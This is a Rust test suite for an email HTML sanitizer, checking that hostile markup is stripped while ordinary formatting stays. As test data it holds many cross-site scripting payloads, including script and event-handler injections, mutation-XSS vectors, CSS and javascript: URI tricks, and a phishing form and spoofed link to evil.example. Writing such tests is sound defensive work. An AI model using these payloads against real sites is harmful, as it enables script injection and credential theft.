//! In charge of hostile HTML: what goes, and what stays.

use std::time::{Duration, Instant};

use super::*;

const PNG: &[u8] = b"\x89PNG\r\n\x1a\n0000";

const NONE: Shown<'static> = Shown { inline: &[], remote: false };

fn clean(html: &str) -> String {
    body(html, NONE).unwrap().html
}

#[test]
fn what_is_hostile_goes_and_its_words_stay() {
    for (html, expected) in [
        ("<p>a<script>alert(1)</script>b</p>", "<p>ab</p>"),
        ("<p onclick=alert(1) onmouseover='x()'>a</p>", "<p>a</p>"),
        ("<img src=x onerror=alert(1)>", "<img referrerpolicy=\"no-referrer\">"),
        ("<svg><script>alert(1)</script><text>x</text></svg>dopo", "dopo"),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>dopo", "dopo"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>a", "a"),
        ("<base href=https://evil.example/>a", "a"),
        ("<link rel=stylesheet href=https://evil.example/x.css>a", "a"),
        ("<form action=https://evil.example><input name=password value=x><button>Invia</button></form>", "Invia"),
        ("<iframe src=https://evil.example>x</iframe>a", "a"),
        ("<iframe srcdoc='<script>alert(1)</script>'></iframe>a", "a"),
        ("<object data=x.swf><embed src=y></object>a", "a"),
        ("<style>@import url(https://evil.example/x.css); p{}</style>a", "a"),
        ("<template><script>x</script></template>a<noscript><img src=x></noscript>", "a"),
        ("<p id=a class=b name=c data-x=d contenteditable tabindex=1 accesskey=x>a</p>", "<p>a</p>"),
        ("<!-- <script> --><!--[if mso]>x<![endif]-->a", "a"),
        ("<details open ontoggle=alert(1)><summary>s</summary>a</details>", "sa"),
        ("<video poster=https://evil.example/x.png src=y></video><audio src=z></audio>a", "a"),
        ("<p style=\"color:red;background:url(https://evil.example/x.png)\">a</p>", "<p style=\"color:red\">a</p>"),
        ("<p style=\"color:red;b\\61ckground:u\\72l(//x)\">a</p>", "<p style=\"color:red\">a</p>"),
        ("<p style=\"width:expression(alert(1));-moz-binding:url(x)\">a</p>", "<p style=\"\">a</p>"),
        ("<p style=\"background:u/**/rl(https://x.example)\">a</p>", "<p style=\"\">a</p>"),
        ("<p style=\"background-image:image-set('https://x.example/a.png' 1x)\">a</p>", "<p style=\"\">a</p>"),
        ("<p style=\"position:fixed;top:0;z-index:9;color:#00f\">a</p>", "<p style=\"color:#00f\">a</p>"),
        ("<p style=\"@import 'https://x.example'\">a</p>", "<p style=\"\">a</p>"),
        ("<body background=https://x.example/a.png><p>a</p></body>", "<p>a</p>"),
    ] {
        assert_eq!(clean(html), expected, "{html}");
    }
}

#[test]
fn links_lead_where_they_say() {
    for href in [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "cid:x",
        "//evil.example/",
        "/accedi",
        "#x",
        "x.html",
        "blob:https://x.example/1",
    ] {
        let found = clean(&format!("<a href=\"{href}\">qui</a>"));
        assert!(!found.contains("href") && found.contains(">qui</a>"), "{href}: {found}");
    }
    let found = clean(
        "<a title='https://banca.example' href='https://banca.example@evil.example/x' target=_self rel=opener>banca</a>",
    );
    // In whatever order.
    let mut attributes: Vec<&str> = found.split("\" ").map(|one| one.trim_start_matches("<a ")).collect();
    attributes.sort_unstable();
    for said in [
        "target=\"_blank",
        "title=\"evil.example · https://banca.example@evil.example/x",
        "rel=\"noopener noreferrer nofollow",
    ] {
        assert_eq!(attributes.iter().filter(|one| one.split("\">").next() == Some(said)).count(), 1, "{said}: {found}");
    }
    assert_eq!((found.matches("target=").count(), found.matches("rel=").count()), (1, 1), "{found}");
    let two = clean("<a href=https://uno.example>1</a><a>2</a><a href=mailto:a@b.example>3</a>");
    assert_eq!(two.matches("title=").count(), 2, "{two}");
    assert!(two.contains("title=\"mailto:a@b.example\""), "{two}");
}

#[test]
fn what_a_letter_is_made_of_stays() {
    let letter = "<div style=\"font-family:'Segoe UI',Arial;font-size:11pt;color:rgb(1,2,3)\"><h1>Ciao</h1><p align=\"center\">a \
                  <b>b</b> <i>c</i> <u>d</u></p><table border=\"1\" cellpadding=\"2\"><tbody><tr><td colspan=\"2\" \
                  bgcolor=\"#fff\">x</td></tr></tbody></table><ul><li>1</li></ul><blockquote>cit</blockquote><font \
                  color=\"red\">rosso</font><hr>àèìòù € “x”</div>";
    let found = clean(letter);
    for kept in [
        "font-size:11pt",
        "rgb(1",
        "Segoe UI",
        "<h1>",
        "align=\"center\"",
        "<b>b</b>",
        "colspan=\"2\"",
        "bgcolor=\"#fff\"",
        "<li>1</li>",
        "<blockquote>",
        "color=\"red\"",
        "<hr>",
        "àèìòù € “x”",
    ] {
        assert!(found.contains(kept), "{kept}: {found}");
    }
}

#[test]
fn pictures_stand_in_their_places_when_they_are_some() {
    let inline = [
        Inline { content_id: "a@b", bytes: PNG },
        Inline { content_id: "svg@b", bytes: b"<svg onload=alert(1)>" },
        Inline { content_id: "html@b", bytes: b"<script>alert(1)</script>" },
    ];
    let found = body(
        "<img src='cid:a@b' alt=schermata><img src=cid:a%40b><img src=CID:a@b><img src=cid:svg@b><img src=cid:html@b><img src=cid:manca>",
        Shown { inline: &inline, remote: false },
    )
    .unwrap();
    assert_eq!(found.html.matches("src=\"data:image/png;base64,iVBORw0KGgowMDAw\"").count(), 3, "{}", found.html);
    assert!(found.html.matches("src=").count() == 3 && found.html.contains("alt=\"schermata\""), "{}", found.html);
    assert_eq!(found.blocked, 0);
    for (src, stays) in [
        ("data:image/png;base64,iVBORw0KGgowMDAw", true),
        ("data:text/html;base64,iVBORw0KGgowMDAw", true),
        ("data:text/html,<script>alert(1)</script>", false),
        ("data:image/svg+xml;base64,PHN2Zz4=", false),
        ("data:image/svg+xml,<svg onload=alert(1)>", false),
        ("data:image/png,x", false),
    ] {
        let found = clean(&format!("<img src=\"{src}\">"));
        assert_eq!(found.contains("src=\"data:image/png;base64,"), stays, "{src}: {found}");
        assert!(!found.contains("svg") && !found.contains("html"), "{found}");
    }
}

#[test]
fn nothing_is_fetched_from_elsewhere_until_it_is_asked_for() {
    let html = "<img src=https://t.example/1.gif><img src=http://t.example/2.gif srcset='https://t.example/3.gif 2x'>\
                <img srcset='//t.example/4.gif'><td background=x></td><table background=https://t.example/5.gif>\
                <tr><td style='background:url(https://t.example/6.gif)'>a</td></tr></table><img src=//t.example/7.gif>";
    let found = body(html, NONE).unwrap();
    assert!(!found.html.contains("t.example"), "{}", found.html);
    assert_eq!(found.blocked, 5);
    let shown = body(html, Shown { inline: &[], remote: true }).unwrap();
    assert!(
        shown.html.contains("<img src=\"https://t.example/1.gif\" referrerpolicy=\"no-referrer\">"),
        "{}",
        shown.html
    );
    assert_eq!((shown.html.matches("t.example").count(), shown.blocked), (1, 4), "{}", shown.html);
}

#[test]
fn what_breaks_out_when_it_is_read_again_does_not() {
    // What is clean stays as it is when it is cleaned once more: there is no second meaning in it.
    for html in [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<p title='</p><script>alert(1)</script>'>",
        "<img alt=\"`onerror=alert(1) &#x22; &lt;script&gt;\" src=cid:x>",
        "<a href=\"https://x.example/?a=%22%3E%3Cscript%3E\">x</a>",
        "<table><a><table><a></table><a></table>",
        "<xmp><p title=\"</xmp><img src onerror=alert(1)>\">",
        "<plaintext><script>alert(1)",
        "<textarea><img title=\"</textarea><img src=1 onerror=alert(1)>\">",
        "<p style=\"font-family:'</p><script>alert(1)</script>'\">x",
    ] {
        let once = clean(html);
        let sorted = |text: &str| {
            let mut letters: Vec<char> = text.chars().collect();
            letters.sort_unstable();
            letters
        };
        // Attributes have no order.
        assert_eq!(sorted(&clean(&once)), sorted(&once), "{html}");
        let small = once.to_ascii_lowercase();
        assert!(!small.contains("<script") && !small.contains("<img src=\"1\"") && !small.contains("<style"), "{once}");
    }
}

#[test]
fn too_much_is_not_shown_and_takes_no_time() {
    let begin = Instant::now();
    for html in [
        "<div>".repeat(500),
        "<div></x>".repeat(5000),
        "<b>".repeat(50_000),
        "<p>a".repeat(50_000),
        "a".repeat(5 * 1024 * 1024),
        "<img>".repeat(50_000),
    ] {
        assert_eq!(body(&html, NONE), None);
    }
    let wide = "<p>a</p>".repeat(9_000);
    assert!(body(&wide, NONE).is_some());
    let formatted = "<b><i><font><a href=https://x.example>x".repeat(90);
    assert!(body(&formatted, NONE).is_some());
    let nested = format!("{}x{}", "<table><tr><td>".repeat(60), "</td></tr></table>".repeat(60));
    assert!(clean(&nested).contains('x'));
    assert!(begin.elapsed() < Duration::from_secs(20), "{:?}", begin.elapsed());
    // A picture shown ten thousand times is not sent ten thousand times.
    let large = [PNG, &[0; 1024 * 1024]].concat();
    let inline = [Inline { content_id: "a", bytes: &large }];
    let found = body(&"<img src=cid:a>".repeat(10_000), Shown { inline: &inline, remote: false }).unwrap();
    assert!(found.html.len() < 20 * 1024 * 1024, "{}", found.html.len());
}

#[test]
fn no_rubbish_is_too_much() {
    let pieces = [
        "<",
        ">",
        "\"",
        "'",
        "=",
        "<p",
        "</p>",
        "<svg>",
        "<math>",
        "<table>",
        "<td ",
        "style",
        "=\"a:b;",
        "url(",
        "<!--",
        "-->",
        "<a href=",
        "javascript:",
        "cid:",
        "\0",
        "&#x0;",
        "&lt;",
        "<img ",
        "src=",
        "<select>",
        "<template>",
        "é",
        "\u{202e}",
        "/",
        " on",
        "x",
        "<style>",
        "]]>",
        "<![CDATA[",
        "<?xml ",
        "<script",
        "</script>",
    ];
    let mut seed = 0x5eed_u64;
    for _ in 0..3000 {
        let mut html = String::new();
        for _ in 0..30 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            html.push_str(pieces[usize::try_from(seed % pieces.len() as u64).unwrap()]);
        }
        let found = clean(&html).to_ascii_lowercase();
        assert!(
            !found.contains("<script") && !found.contains("<svg") && !found.contains("<a href=\"javascript:"),
            "{html}: {found}"
        );
    }
}
